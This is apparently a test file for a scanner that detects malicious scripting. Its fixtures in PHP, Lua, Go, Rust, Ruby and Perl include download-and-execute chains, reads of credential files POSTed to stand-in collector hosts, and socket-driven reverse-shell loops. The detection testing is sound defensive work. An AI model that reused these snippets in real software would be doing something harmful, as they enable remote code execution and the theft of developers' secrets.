import { describe, expect, it } from 'vitest';
import { libLanguage, libStatements } from '../../../src/analysis/code/scripting/lib-lang.js';
import { socketCommandLoops } from '../../../src/analysis/code/scripting/socket-commands.js';
import { secretOf } from '../../../src/analysis/paths.js';
import { factsOf, ofKind } from '../../support/code.js';

const scripting = (code: string) => factsOf('scripting', code);

describe('PHP, Lua, Go and Rust files', () => {
  it('language by its own words; statements split at blocks, joined across open brackets', () => {
    expect(libLanguage('<?php echo 1;')).toBe('php');
    expect(libLanguage('package main\n\nimport "fmt"\nfunc main() {}\n')).toBe('go');
    expect(libLanguage('use std::fs;\nfn main() {\n    let x = 1;\n}\n')).toBe('rust');
    expect(libLanguage('local http = require("socket.http")\nif x then\nend\n')).toBe('lua');
    expect(libLanguage('require "json"\ndef x\nend\n')).toBeUndefined();
    const go = 'func main() {\n\tif a := f(); a != nil {\n\t\tg(a,\n\t\t\tb) // note\n\t}\n}\n';
    expect(libStatements(go, 'go').map((s) => s.text.replace(/\s+/g, ' '))).toEqual([
      'func main()',
      'if a := f()',
      'a != nil',
      'g(a, b)',
    ]);
  });
  it('Composer auth.json is a registry token store', () => {
    expect(secretOf('~/.composer/auth.json')?.cls).toBe('registry-token');
    expect(secretOf('~/.config/composer/auth.json')?.cls).toBe('registry-token');
    expect(secretOf('~/project/composer.json')).toBeUndefined();
  });
});

describe('download then run', () => {
  it('Go: a response copied into a temp file that bash runs; a shell fed a response body', async () => {
    const r = await scripting(
      [
        'package main',
        'import ("io"; "net/http"; "os"; "os/exec")',
        'func main() {',
        '\tres, _ := http.Get("https://dl.tools-mirror.dev/setup.sh")',
        '\ttmp, _ := os.CreateTemp("", "s-*.sh")',
        '\tio.Copy(tmp, res.Body)',
        '\texec.Command("bash", tmp.Name()).Run()',
        '\tsh := exec.Command("sh")',
        '\tsh.Stdin = res.Body',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute').map((e) => e.via)).toEqual(['bash', 'sh stdin']);
    expect(ofKind(r, 'execute')[0]).toMatchObject({ endpoint: { host: 'dl.tools-mirror.dev' } });
  });
  it('Rust: bytes read into a buffer, written, then dlopened', async () => {
    const r = await scripting(
      [
        'use std::io::Read;',
        'fn main() {',
        '    let p = std::env::temp_dir().join("libx.so");',
        '    let mut buf = Vec::new();',
        '    ureq::get("https://cdn.plugins-hub.io/libx.so").call().unwrap().into_reader().read_to_end(&mut buf).unwrap();',
        '    std::fs::write(&p, &buf).unwrap();',
        '    let lib = unsafe { libloading::Library::new(&p) };',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute')).toMatchObject([{ via: 'libloading' }]);
  });
  it('PHP: a fetched file put in a cache and required; Lua: a fetched chunk loaded through an alias', async () => {
    const php = await scripting(
      "<?php\n$f = sys_get_temp_dir() . '/x.php';\n$code = file_get_contents('https://rules.presets-cdn.org/r.php');\nfile_put_contents($f, $code);\n$r = require $f;\n",
    );
    expect(ofKind(php, 'execute')).toMatchObject([{ via: 'require' }]);
    const lua = await scripting(
      'local http = require("socket.http")\nlocal body = http.request("https://x.lua-hub.dev/a.lua")\nlocal run = loadstring or load\nrun(body)()\n',
    );
    expect(ofKind(lua, 'execute')).toMatchObject([{ via: 'loadstring' }]);
  });
  it('Ruby: a download written to a shell pipe, and an ERB template rendered', async () => {
    const r = await scripting(
      'require "net/http"\nbody = Net::HTTP.get(URI("https://x.gem-tools.dev/b.sh"))\nIO.popen("bash", "w") do |io|\n  io.write(body)\nend\nt = Net::HTTP.get(URI("https://x.gem-tools.dev/t.erb"))\nputs ERB.new(t).result(binding)\n',
    );
    expect(ofKind(r, 'execute').map((e) => e.via)).toEqual(['bash stdin', 'ERB']);
  });
  it('quiet: parsed JSON, a local template, a local library, a non-interpreter command', async () => {
    const go = await scripting(
      'package main\nimport ("encoding/json"; "net/http"; "os/exec")\nfunc main() {\n\tr, _ := http.Get("https://json.schemastore.org/x.json")\n\tvar s map[string]any\n\tjson.NewDecoder(r.Body).Decode(&s)\n\texec.Command("jq", ".", "a.json").Run()\n}\n',
    );
    expect(ofKind(go, 'execute')).toEqual([]);
    const rb = await scripting('require "erb"\nputs ERB.new(File.read("notes.erb")).result(binding)\n');
    expect(ofKind(rb, 'execute')).toEqual([]);
  });
});

describe('secret reads and sends', () => {
  it('Lua: a reader function given a store path, its content POSTed with ltn12', async () => {
    const r = await scripting(
      [
        'local https = require("ssl.https")',
        'local ltn12 = require("ltn12")',
        'local function slurp(p)',
        '  local f = io.open(p, "rb")',
        '  return f:read("*a")',
        'end',
        'local tok = slurp(os.getenv("HOME") .. "/.config/gh/hosts.yml")',
        'https.request{ url = "https://collect.meta-sync.dev/s", method = "POST", source = ltn12.source.string(tok) }',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'cli-token' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { data: { secret: 'cli-token' }, endpoint: { host: 'collect.meta-sync.dev' } },
    ]);
  });
  it('PHP: paths in a list walked by foreach; a stream-context POST of what was read', async () => {
    const r = await scripting(
      [
        '<?php',
        "$h = getenv('HOME') ?: '';",
        "$paths = [$h . '/.composer/auth.json', $h . '/.docker/config.json'];",
        '$all = [];',
        'foreach ($paths as $p) {',
        '    $all[$p] = file_get_contents($p);',
        '}',
        "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($all)]]);",
        "file_get_contents('https://sync.pkg-proxy.net/t', false, $ctx);",
      ].join('\n'),
    );
    expect(ofKind(r, 'read').map((x) => x.secret)).toEqual(['registry-token', 'docker-config']);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: 'sync.pkg-proxy.net' }, data: { taints: expect.arrayContaining(['secret']) } },
    ]);
  });
  it('Go: a store read in a function, sent by its caller with http.Post; an authorization header is a credential', async () => {
    const r = await scripting(
      [
        'package main',
        'import ("bytes"; "net/http"; "os"; "path/filepath")',
        'func token() []byte {',
        '\thome, _ := os.UserHomeDir()',
        '\tb, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))',
        '\treturn b',
        '}',
        'func main() {',
        '\thttp.Post("https://x.reg-mirror.dev/r", "application/json", bytes.NewReader(token()))',
        '\treq, _ := http.NewRequest("GET", "https://api.example-saas.com/me", nil)',
        '\treq.Header.Set("Authorization", os.Getenv("SAAS_TOKEN"))',
        '\thttp.DefaultClient.Do(req)',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'docker-config' }]);
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'docker-config' } }]);
    expect(ofKind(r, 'fetch').some((f) => f.endpoint.host === 'api.example-saas.com')).toBe(true);
  });
});

describe('socket input run as commands', () => {
  it('Perl, PHP and Go command loops; a banner probe and an unrelated command are not', () => {
    expect(
      socketCommandLoops(
        'my $s = IO::Socket::INET->new(PeerAddr => "r.relay-io.net:443");\nwhile (my $l = <$s>) {\n  print $s qx($l);\n}\n',
      ),
    ).toMatchObject([{ how: 'socket input run as commands', host: 'r.relay-io.net' }]);
    expect(
      socketCommandLoops('$c = fsockopen("10.1.2.3", 80);\n$cmd = fgets($c);\nsystem($cmd);\n'),
    ).toHaveLength(1);
    expect(
      socketCommandLoops(
        'c, _ := net.Dial("tcp", "h.example-relay.net:1")\nr := bufio.NewScanner(c)\nfor r.Scan() {\n\tline := r.Text()\n\texec.Command("sh", "-c", line).Run()\n}\n',
      ),
    ).toHaveLength(1);
    expect(
      socketCommandLoops(
        'c, _ := net.Dial("tcp", "h.example-relay.net:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c\n',
      ),
    ).toMatchObject([{ how: 'shell streams wired to a socket' }]);
    expect(
      socketCommandLoops(
        'my $s = IO::Socket::INET->new("localhost:6379");\nmy $r = <$s>;\nmy $b = qx(git branch);\n',
      ),
    ).toEqual([]);
  });
});

describe('loops over lists written in place, and tool home variables', () => {
  it('PHP and Lua: a path built from the loop variable reads each path the items spell', async () => {
    const php = await scripting(
      "<?php\n$h = getenv('HOME');\nforeach (['.npmrc', 'notes.txt'] as $n) {\n    $p = $h . '/' . $n;\n    $x = file_get_contents($p);\n}\n",
    );
    expect(ofKind(php, 'read').map((b) => b.target.text)).toEqual(['~/.npmrc']);
    const lua = await scripting(
      'local h = os.getenv("HOME")\nfor _, n in ipairs({".netrc", "todo.txt"}) do\n  local f = io.open(h .. "/" .. n, "r")\nend\n',
    );
    expect(ofKind(lua, 'read').map((b) => b.target.text)).toEqual(['~/.netrc']);
  });

  it('a tool home variable is its default folder; an unrelated variable stays unknown', async () => {
    const r = await scripting(
      "<?php\n$c = getenv('COMPOSER_HOME') ?: '/tmp';\n$a = file_get_contents($c . '/auth.json');\n$o = getenv('OUT_DIR');\n$b = file_get_contents($o . '/auth.json');\n",
    );
    expect(ofKind(r, 'read').map((b) => b.target.text)).toEqual(['~/.composer/auth.json']);
  });
});
